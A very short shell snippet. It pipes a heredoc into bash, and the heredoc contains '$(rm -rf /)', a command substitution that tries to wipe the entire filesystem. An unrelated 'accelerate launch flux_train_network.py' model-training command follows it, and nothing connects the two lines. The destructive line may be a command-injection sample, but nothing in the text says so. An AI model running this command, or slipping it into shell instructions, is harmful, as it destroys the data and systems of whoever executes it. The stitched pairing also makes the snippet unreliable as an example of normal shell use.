cat <<'END' | bash
$(rm -rf /)
END
accelerate launch flux_train_network.py --seed 2
